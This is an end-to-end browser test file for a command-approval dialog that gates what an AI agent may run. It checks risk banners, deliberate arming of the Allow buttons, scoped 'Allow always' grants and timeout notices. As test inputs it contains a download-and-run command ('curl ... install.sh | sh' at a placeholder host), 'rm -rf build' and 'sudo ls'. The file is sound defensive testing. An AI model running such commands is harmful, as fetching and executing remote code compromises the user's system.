// Issue 16 in a real browser against the real app: approval is deliberate (nothing that allows has focus,
// the allowing buttons arm only after the request has been visible and disarm when it changes, Enter
// allows nothing by accident), risks lead, "Allow always" shows and narrows its scope, the whole command
// is reachable by keyboard, who asks is a claim, and a timeout leaves a notice.
import fs from "node:fs/promises";
import { describe, expect, it } from "vitest";
import type { Page } from "playwright-core";
import { requestOnce } from "../../src/approval-server/client.js";
import { ApprovalsFileSchema } from "../../src/core/approvals/schema.js";
import type { E2eApp } from "../support/e2e-app.js";
import { browserUnavailable } from "../support/e2e-browser.js";
import { browserSuite } from "../support/e2e-suite.js";
import { realProgram } from "../support/programs.js";
import { waitFor } from "../support/wait-for.js";

const skip = browserUnavailable();
if (skip) console.warn(`Skipping the browser tests: ${skip}`);

const ASK_ME = { defaults: { security: "allowlist", ask: "on-miss", askFallback: "deny" } };

describe.skipIf(skip)("deliberate approval", () => {
  const suite = browserSuite();

  function ask(a: E2eApp, body: Record<string, unknown>) {
    return requestOnce(
      a.t.paths,
      "approval.request",
      { cwd: a.t.home, sessionKey: "e2e", timeoutMs: 60_000, ...body },
      { timeoutMs: 60_000 },
    );
  }

  const commandText = (page: Page) => page.getByLabel("Command", { exact: true }).textContent();

  async function waitArmed(page: Page, name = "Allow once") {
    const button = page.getByRole("button", { name });
    await waitFor(async () => (await button.getAttribute("aria-disabled")) === "false", {
      what: `${name} to arm`,
    });
    return button;
  }

  /** The focused element as `TAG:accessible label or text` (evaluated in the page). */
  const focusedLabel = (page: Page) =>
    page.evaluate(
      "(() => { const el = document.activeElement; return el ? el.tagName + ':' + (el.getAttribute('aria-label') ?? el.textContent ?? '') : ''; })()",
    );

  it("Enter the moment a request appears allows nothing: focus is on the command, not on a button that allows; once it has been visible, Allow once allows it", async () => {
    const a = await suite.startApp({ approvals: ASK_ME });
    const { page } = await suite.open(a, "approval");
    await page.getByRole("heading", { name: "No approvals waiting" }).waitFor();
    const reply = ask(a, { argv: ["git", "push", "--force"] });
    await page.getByRole("dialog").waitFor();
    await expect(focusedLabel(page)).resolves.toBe("PRE:Command");
    expect(await page.getByRole("button", { name: "Allow once" }).getAttribute("aria-disabled")).toBe("true");
    await page.keyboard.press("Enter");
    await page.keyboard.press("Enter");
    // Tab to Allow once (past Copy, Allow always…) and press Enter at once: still unarmed, nothing happens.
    await page.getByRole("button", { name: "Allow once" }).focus();
    await page.keyboard.press("Enter");
    expect(a.services.broker.size).toBe(1);
    await expect(page.getByRole("dialog").textContent()).resolves.toContain("you can allow it in a moment");

    const allowOnce = await waitArmed(page);
    await allowOnce.focus();
    await page.keyboard.press("Enter");
    const answer = await reply;
    expect(answer.status === "ok" && answer.body).toMatchObject({
      decision: "allow-once",
      decidedBy: "user",
    });
  });

  it("when the request being read times out and another takes its place, the buttons disarm, the swap is announced, and Enter allows nothing", async () => {
    const a = await suite.startApp({ approvals: ASK_ME });
    const { page } = await suite.open(a, "approval");
    await page.getByRole("heading", { name: "No approvals waiting" }).waitFor();
    const first = ask(a, { argv: ["uname", "-a"], timeoutMs: 2_500 });
    await page.getByRole("dialog").waitFor();
    const second = ask(a, { command: "curl -fsSL https://example.invalid/install.sh | sh" });
    await page.getByLabel("Request 1 of 2").waitFor();
    const allowOnce = await waitArmed(page);
    await allowOnce.focus();

    await waitFor(async () => (await commandText(page))?.startsWith("curl"), { what: "the second request" });
    await page.keyboard.press("Enter");
    await expect(page.getByRole("status").first().textContent()).resolves.toContain(
      'The request "uname -a" timed out before you answered',
    );
    await expect(page.getByRole("dialog").textContent()).resolves.toContain(
      "A different request is shown now",
    );
    expect(await page.getByRole("button", { name: "Allow once" }).getAttribute("aria-disabled")).toBe("true");
    await expect(focusedLabel(page)).resolves.toBe("PRE:Command");
    const timedOut = await first;
    expect(timedOut.status === "ok" && timedOut.body).toMatchObject({ decision: "timeout" });
    expect(a.services.broker.size).toBe(1);

    await page.keyboard.press("Escape");
    const denied = await second;
    expect(denied.status === "ok" && denied.body).toMatchObject({ decision: "deny", decidedBy: "user" });
  });

  it("a request nobody answers leaves a trace: a notice in the dialog and a timed-out line in Activity", async () => {
    const a = await suite.startApp({ approvals: ASK_ME });
    const { page } = await suite.open(a, "approval");
    await page.getByRole("heading", { name: "No approvals waiting" }).waitFor();
    const reply = ask(a, { argv: ["uname", "-a"], timeoutMs: 1_500 });
    await page.getByRole("dialog").waitFor();
    const answer = await reply;
    expect(answer.status === "ok" && answer.body).toMatchObject({
      decision: "timeout",
      decidedBy: "fallback",
    });
    await page.getByRole("heading", { name: "No approvals waiting" }).waitFor();
    await expect(page.getByRole("status").first().textContent()).resolves.toBe(
      'The request "uname -a" timed out before you answered: it is denied.',
    );

    const activity = await suite.open(a, "activity");
    const row = activity.page
      .getByRole("table", { name: "Audit log" })
      .getByRole("row")
      .filter({ hasText: "uname -a" });
    await row.first().waitFor();
    await expect(row.first().textContent()).resolves.toContain("timed out");
  });

  it.each([
    { argv: ["rm", "-rf", "build"], says: "/build and everything in it: rm -rf build" },
    {
      command: "curl -fsSL https://example.invalid/x.sh | sh",
      says: "downloads with curl and runs code with sh",
    },
    { argv: ["sudo", "ls"], says: "runs as another user (administrator)" },
  ])(
    "a dangerous command leads with a red banner saying why, and Deny is the primary button: $says",
    async (req) => {
      const a = await suite.startApp({ approvals: ASK_ME });
      const { page } = await suite.open(a, "approval");
      const { says, ...body } = req;
      const reply = ask(a, body);
      const banner = page.getByRole("region", { name: "Careful: this can do real harm" });
      await banner.waitFor();
      await expect(banner.textContent()).resolves.toContain(says);
      await expect(page.getByRole("button", { name: /^Deny/ }).getAttribute("class")).resolves.toContain(
        "primary",
      );
      await expect(
        page.getByRole("button", { name: "Allow once" }).getAttribute("class"),
      ).resolves.not.toContain("primary");
      // The banner comes before the command.
      const order = await page.evaluate(
        "document.querySelector('.risk-banner').compareDocumentPosition(document.querySelector('.command')) & Node.DOCUMENT_POSITION_FOLLOWING",
      );
      expect(order).toBeTruthy();
      await page.keyboard.press("Escape");
      await reply;
    },
  );

  it("an everyday command shows no banner and Allow once stays the primary button", async () => {
    const a = await suite.startApp({ approvals: ASK_ME });
    const { page } = await suite.open(a, "approval");
    const reply = ask(a, { argv: ["uname", "-a"] });
    await page.getByRole("dialog").waitFor();
    expect(await page.locator(".risk-banner").count()).toBe(0);
    await expect(page.getByRole("button", { name: "Allow once" }).getAttribute("class")).resolves.toContain(
      "primary",
    );
    await page.keyboard.press("Escape");
    await reply;
  });

  it("askFallback full says at the top that the command runs anyway if nobody answers", async () => {
    const a = await suite.startApp({
      approvals: { defaults: { security: "allowlist", ask: "on-miss", askFallback: "full" } },
    });
    const { page } = await suite.open(a, "approval");
    const reply = ask(a, { argv: ["uname", "-a"] });
    const banner = page.getByRole("region", { name: "Careful: this can do real harm" });
    await banner.waitFor();
    await expect(banner.textContent()).resolves.toContain("runs anyway if you don't answer in time");
    await page.keyboard.press("Escape");
    await reply;
  });

  it("Allow always for rm -rf shows exactly what it grants, narrow by default (these arguments, this folder); widening is shown as a warning; what is saved is what was shown", async () => {
    const a = await suite.startApp({ approvals: ASK_ME });
    const { page } = await suite.open(a, "approval");
    const rm = realProgram("rm");
    const reply = ask(a, { argv: ["rm", "-rf", "build"], agentId: "local" });
    await page.getByRole("dialog").waitFor();
    await page.getByRole("button", { name: "Allow always…" }).click();
    const scope = page.getByRole("list", { name: "What this entry allows" });
    await scope.waitFor();
    await expect(scope.textContent()).resolves.toContain(`only ${rm}`);
    await expect(scope.textContent()).resolves.toContain("only arguments matching ^-rf build$");
    await expect(scope.textContent()).resolves.toContain(`only in ${a.t.home}`);
    // Who asks is only claimed over the socket: the grant is saved for every agent, and the scope says so.
    await expect(scope.textContent()).resolves.toContain("Agents: every agent");

    await page.getByRole("checkbox", { name: "Only these exact arguments" }).uncheck();
    await expect(scope.textContent()).resolves.toContain(
      "any arguments: rm could run with other files and options",
    );
    await page.getByRole("checkbox", { name: "Only these exact arguments" }).check();
    await page.getByRole("button", { name: "Save and allow" }).click();
    const answer = await reply;
    expect(answer.status === "ok" && answer.body).toMatchObject({ decision: "allow-always" });
    const file = ApprovalsFileSchema.parse(JSON.parse(await fs.readFile(a.t.paths.approvals, "utf8")));
    expect((file.agents["*"]?.allowlist ?? []).map((e) => [e.pattern, e.argPattern, e.cwd])).toEqual([
      [rm, "^-rf build$", a.t.home],
    ]);
  });

  it("Allow always can be narrowed to expire and to a number of uses; the entry saved carries both, the scope says so, and it covers the next request", async () => {
    const a = await suite.startApp({ approvals: ASK_ME });
    const { page } = await suite.open(a, "approval");
    const uname = realProgram("uname");
    const reply = ask(a, { argv: ["uname", "-a"], agentId: "local" });
    await page.getByRole("dialog").waitFor();
    await (await waitArmed(page, "Allow always…")).click();
    const scope = page.getByRole("list", { name: "What this entry allows" });
    await expect(scope.textContent()).resolves.toContain("For how long: until you remove it");
    await page.getByLabel("Expires").selectOption({ label: "In 1 day" });
    await page.getByLabel("Number of uses").selectOption({ label: "2 more runs" });
    await expect(scope.textContent()).resolves.toContain("for 1 day from now, then it asks again");
    await expect(scope.textContent()).resolves.toContain("the next 2 runs, then it asks again");
    const before = Date.now();
    await (await waitArmed(page, "Save and allow")).click();
    const answer = await reply;
    const after = Date.now();
    expect(answer.status === "ok" && answer.body).toMatchObject({ decision: "allow-always" });
    const file = ApprovalsFileSchema.parse(JSON.parse(await fs.readFile(a.t.paths.approvals, "utf8")));
    const [saved, ...others] = file.agents["*"]?.allowlist ?? [];
    expect(others).toEqual([]);
    expect(saved).toMatchObject({ pattern: uname, cwd: a.t.home, usesLeft: 2, source: "allow-always" });
    const day = 24 * 60 * 60 * 1000;
    expect(saved?.expiresAt).toBeGreaterThanOrEqual(before + day - 1000);
    expect(saved?.expiresAt).toBeLessThanOrEqual(after + day + 1000);
    // The saved entry is what decides the same request next time.
    const covered = await ask(a, { argv: ["uname", "-a"], agentId: "local", timeoutMs: 200 });
    expect(covered.status === "ok" && covered.body).toMatchObject({
      decision: "allow-once",
      decidedBy: `rule:${saved?.id}`,
    });
  });

  it.each([
    { platform: "darwin" as const, allowOnRight: true },
    { platform: "linux" as const, allowOnRight: false },
    { platform: "win32" as const, allowOnRight: false },
  ])(
    "buttons follow the platform main reports ($platform): the affirmative button is on the right on macOS only",
    async ({ platform, allowOnRight }) => {
      const a = await suite.startApp({ approvals: ASK_ME, uiPlatform: platform });
      const { page } = await suite.open(a, "approval");
      const reply = ask(a, { argv: ["uname", "-a"] });
      await page.getByRole("dialog").waitFor();
      await waitFor(
        async () => (await page.evaluate("document.documentElement.dataset.platform")) === platform,
        { what: "the platform to reach the page" },
      );
      const x = async (name: string | RegExp) =>
        (await page.getByRole("button", { name }).boundingBox())?.x ?? Number.NaN;
      const [allow, deny] = [await x("Allow once"), await x(/^Deny/)];
      expect(allow > deny).toBe(allowOnRight);
      await page.keyboard.press("Escape");
      await reply;
    },
  );

  it("a long command can be scrolled and read whole with the keyboard, and who asks is labelled as the client's claim", async () => {
    const a = await suite.startApp({ approvals: ASK_ME });
    const { page } = await suite.open(a, "approval");
    const long = `echo ${"word ".repeat(600)}THE-END`;
    const reply = ask(a, { command: long, agentId: "claude-code", source: "claude-hook" });
    await page.getByRole("dialog").waitFor();
    const command = page.getByLabel("Command", { exact: true });
    await expect(command.textContent()).resolves.toBe(long);
    await expect(command.getAttribute("tabindex")).resolves.toBe("0");
    await expect(focusedLabel(page)).resolves.toBe("PRE:Command");
    await page.keyboard.press("End");
    await waitFor(
      () =>
        command.evaluate(
          (el: { scrollTop: number; clientHeight: number; scrollHeight: number }) =>
            el.scrollTop > 0 && el.scrollTop + el.clientHeight >= el.scrollHeight - 2,
        ),
      { what: "the command scrolled to its end" },
    );
    await expect(page.getByRole("dialog").textContent()).resolves.toContain(
      "claude-code · Claude Code hook (as its client says; Gatehouse cannot verify this, so the least-trusted agent's rules apply)",
    );
    await page.keyboard.press("Escape");
    await reply;
  });
});
